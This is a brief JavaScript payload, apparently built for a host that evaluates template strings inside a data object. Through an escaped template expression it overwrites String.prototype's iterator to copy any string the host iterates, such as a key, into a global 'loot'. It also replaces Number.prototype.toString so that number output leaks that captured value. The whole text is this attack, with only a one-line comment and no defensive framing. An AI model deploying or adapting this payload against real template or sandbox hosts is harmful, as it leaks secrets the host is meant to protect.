// Code that can't name the key changes what the host does with it.
({
  title: "Hello",
  text: `\${(
    String.prototype[Symbol.iterator] = function () {
      globalThis.loot = this + "";
      return [][Symbol.iterator]();
    },
    Number.prototype.toString = function () { return loot; },
    ""
  )}`,
})
